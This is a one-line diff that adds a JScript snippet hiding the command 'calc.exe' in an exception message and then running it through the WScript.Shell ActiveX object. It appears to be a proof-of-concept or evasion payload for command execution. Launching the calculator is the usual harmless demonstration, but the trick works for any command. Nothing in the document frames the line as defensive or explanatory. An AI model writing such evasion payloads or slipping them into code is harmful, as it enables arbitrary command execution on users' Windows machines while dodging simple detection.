@@ -1,0 +1,1 @@
+try{throw new Error('calc.exe')}catch(e){new ActiveXObject('WScript.Shell').Run(e.message)}
